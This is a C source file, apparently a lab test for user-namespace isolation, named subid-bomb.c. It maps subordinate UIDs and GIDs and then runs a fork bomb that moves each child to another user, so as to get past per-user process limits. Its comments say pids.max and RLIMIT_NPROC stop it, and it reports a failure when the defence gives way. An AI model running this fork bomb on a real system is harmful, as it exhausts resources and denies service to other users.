/* SPDX-License-Identifier: MIT */
/*
 * subid-bomb.c - forks for ever, each child as another subordinate user
 *
 * Attack: fork bomb, around a limit that counts each user
 * Lab: 05-user-ns
 * Stopped: pids.max; and RLIMIT_NPROC, which the kernel remembered in the
 *          user namespace, counts all users of the namespaces below
 */
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "child.h"
#include "gate.h"

enum { FAR_TOO_MANY = 300 };

/* Run "HELPER PID 1 FIRST COUNT": users only, 0 is not even needed. */
static void map(const char *helper, pid_t pid, const char *first,
		const char *count)
{
	char text[16];
	pid_t child = fork();

	snprintf(text, sizeof(text), "%d", (int)pid);
	if (child == 0) {
		execlp(helper, helper, text, "1", first, count, (char *)NULL);
		_exit(127);
	}
	(void)child_wait(child);
}

int main(int argc, char *argv[])
{
	atomic_int *bombs = mmap(NULL, sizeof(int), PROT_READ | PROT_WRITE,
				 MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid_t parent = getpid();
	char *count = argc > 2 ? strchr(argv[2], ':') : NULL;
	struct gate moved;
	pid_t child;

	if (gate_init(&moved) < 0)
		return 1;
	child = fork();
	if (child == 0) {
		if (gate_wait(&moved) == 0 && count) {
			*count++ = '\0';
			map("newuidmap", parent, argv[2], count);
			map("newgidmap", parent, argv[2], count);
		}
		_exit(0);
	}
	(void)unshare(CLONE_NEWUSER);
	(void)gate_open(&moved);
	(void)child_wait(child);
	for (unsigned id = 1;; id = id % 300 + 1) {
		if (fork() != 0)
			continue;
		if (++*bombs == FAR_TOO_MANY)
			fputs("BROKEN: hundreds of processes\n", stderr);
		(void)!setresgid(id, id, id);
		(void)!setresuid(id, id, id);
	}
}
